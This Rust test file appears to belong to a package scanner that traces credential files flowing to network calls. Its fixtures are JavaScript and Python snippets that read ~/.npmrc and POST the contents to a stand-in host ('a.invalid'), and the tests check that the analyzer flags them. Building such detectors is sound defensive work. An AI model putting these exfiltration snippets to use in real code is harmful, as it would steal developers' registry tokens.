use crate::flow::testing::{found, script, wheel};
use crate::unpack::Entry;
use customs_model::{SinkKind, SourceKind, Target};

/// Where files with secrets go.
fn sent_to(entries: Vec<Entry>) -> Vec<Target> {
    let flows = found(entries).flows.into_iter();
    let sent = flows
        .filter(|flow| flow.source == SourceKind::CredentialFile && flow.sink == SinkKind::Network);
    sent.map(|flow| flow.target).collect()
}

#[test]
fn each_file_that_may_be_read_is_read() {
    for code in [
        "for (const f of ['FIRST', 'SECOND']) send(fs.readFileSync(home + f))",
        "send(fs.readFileSync(process.platform === 'win32' ? 'C:/Program Files/A long name/settings.json' : home + 'FIRST'))",
        "let p = home + 'FIRST'; const d = fs.readFileSync(p); p = '/tmp/log'; send(d)",
        "const p = () => { if (process.platform === 'linux') return home + 'FIRST'; return '/tmp/log' }; send(fs.readFileSync(p()))",
    ] {
        let with = |first: &str| {
            let code = code.replace("FIRST", first).replace("SECOND", ".profile2");
            script(&format!(
                "const fs = require('fs'), home = require('os').homedir() + '/';
                 const send = (b) => fetch('https://a.invalid', {{ method: 'POST', body: b }}); {code}"
            ))
        };
        assert!(!sent_to(with(".npmrc")).is_empty(), "{code}");
        assert!(sent_to(with(".profile")).is_empty(), "{code}");
    }
    for code in [
        "for f in ('FIRST', '.profile2'):\n    send(open(home + f).read())\n",
        "p = home + 'FIRST'\nd = open(p).read()\np = '/tmp/log'\nsend(d)\n",
    ] {
        let with = |first: &str| {
            wheel(&format!(
                "import os, requests\nhome = os.path.expanduser('~/')\n\
                 def send(b):\n    requests.post('https://a.invalid', data=b)\n{}",
                code.replace("FIRST", first)
            ))
        };
        assert!(!sent_to(with(".npmrc")).is_empty(), "{code}");
        assert!(sent_to(with(".profile")).is_empty(), "{code}");
    }
}

#[test]
fn a_host_that_may_be_this_machine_may_be_the_other_one() {
    let away = vec![Target::Constant("a.invalid".to_owned())];
    for code in [
        "let u = 'https://a.invalid/'; if (process.env.DEBUG) u = 'http://localhost:3000/a/long/way'; send(u)",
        "send(process.env.DEBUG ? 'http://localhost:3000/a/long/way' : 'https://a.invalid/')",
        "const u = () => { if (!process.env.DEBUG) return 'https://a.invalid/'; return 'http://localhost:3000' }; send(u())",
    ] {
        let begin = "const fs = require('fs'), os = require('os');
            const send = (u) => fetch(u, { method: 'POST', body: fs.readFileSync(os.homedir() + '/.npmrc') });";
        assert_eq!(sent_to(script(&format!("{begin} {code}"))), away, "{code}");
        let code = code.replace("https://a.invalid/", "http://localhost:3001/");
        let here = sent_to(script(&format!("{begin} {code}")));
        assert!(!here.contains(&away[0]), "{code}");
    }
    // Both callers hand in both: the secret goes where its own caller says.
    let code = "const fs = require('fs'), os = require('os');
        const post = (u, b) => fetch(u, { method: 'POST', body: b });
        post('https://a.invalid/', 'version 1');
        post('http://localhost:3000/', fs.readFileSync(os.homedir() + '/.npmrc'))";
    assert!(!sent_to(script(code)).contains(&away[0]));
}
